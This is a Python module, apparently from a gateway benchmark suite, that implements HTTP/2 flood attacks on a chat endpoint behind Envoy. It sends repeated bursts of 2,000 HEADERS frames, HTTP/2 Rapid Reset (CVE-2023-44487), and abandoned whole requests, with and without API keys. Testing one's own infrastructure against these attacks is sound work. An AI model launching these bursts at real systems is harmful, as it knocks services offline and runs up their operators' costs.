"""HTTP/2 requests that are begun and never meant: a few bytes each for the client, an external call each for Envoy."""

from __future__ import annotations

import asyncio
import contextlib
from typing import ClassVar

from bench.attacks.attack import READ, Attack, Needs
from tests.attacks.h2_frames import Fields, Heads, chat_fields, opening, settings_ack, streams

_ROUNDS_A_SECOND = 5.0
_STREAMS = 2000
_BODY = b'{"model": "coder", "messages": [{"role": "user", "content": "Hello!"}]}'


class _Burst(Attack):
    """The same bytes on one connection after the other."""

    reset: ClassVar[bool] = False
    body: ClassVar[bytes | None] = None
    with_key: ClassVar[bool] = False

    def fields(self) -> Fields:
        return chat_fields(self.target.key if self.with_key else None)

    async def run(self) -> None:
        burst = (
            opening() + settings_ack() + Heads(self.fields()).burst(streams(_STREAMS), reset=self.reset, body=self.body)
        )

        async def once(_: int) -> None:
            async with self.connection() as (reader, writer):
                reading = asyncio.create_task(self._discard(reader))
                try:
                    await self.send(writer, burst)
                    self.tally.requests += _STREAMS
                    await asyncio.sleep(0.1)  # What came before an abrupt end is thrown away unread.
                finally:
                    reading.cancel()

        await self.together(1, once, pause=1 / _ROUNDS_A_SECOND - 0.1)

    async def _discard(self, reader: asyncio.StreamReader) -> None:
        with contextlib.suppress(OSError):
            while await reader.read(READ):
                pass


class HeadersThenClose(_Burst):
    """2,000 HEADERS on the chat path, then the connection is closed; five times a second."""

    name = "headers-close"
    means = "no key; 1 connection at a time, 2,000 HTTP/2 HEADERS (28 kB), closed; 5 times a second"


class HeadersThenCloseOpen(HeadersThenClose):
    """The same where nobody asks for keys."""

    name = "headers-close-open"
    means = "gateway without keys; 2,000 HTTP/2 HEADERS (28 kB), closed; 5 times a second"
    needs = Needs(keys=False)


class HeadersThenCloseWithKey(HeadersThenClose):
    """The same with a valid key."""

    name = "headers-close-key"
    means = "one key; 2,000 HTTP/2 HEADERS (30 kB), closed; 5 times a second"
    with_key = True


class RapidReset(_Burst):
    """2,000 HEADERS, each followed by its RST_STREAM (CVE-2023-44487); five times a second."""

    name = "rapid-reset"
    means = "no key; 2,000 HTTP/2 HEADERS with a RST_STREAM each (54 kB); 5 times a second"
    reset = True


class RapidResetWithKey(RapidReset):
    """The same with a valid key."""

    name = "rapid-reset-key"
    means = "one key; 2,000 HTTP/2 HEADERS with a RST_STREAM each (56 kB); 5 times a second"
    with_key = True


class WholeThenClose(_Burst):
    """2,000 whole requests at once, and nobody who waits for an answer."""

    name = "requests-close-key"
    means = "one key; 2,000 whole requests (190 kB) on one HTTP/2 connection, closed; 5 times a second"
    with_key = True
    body = _BODY


ATTACKS = (
    HeadersThenClose,
    HeadersThenCloseOpen,
    HeadersThenCloseWithKey,
    RapidReset,
    RapidResetWithKey,
    WholeThenClose,
)
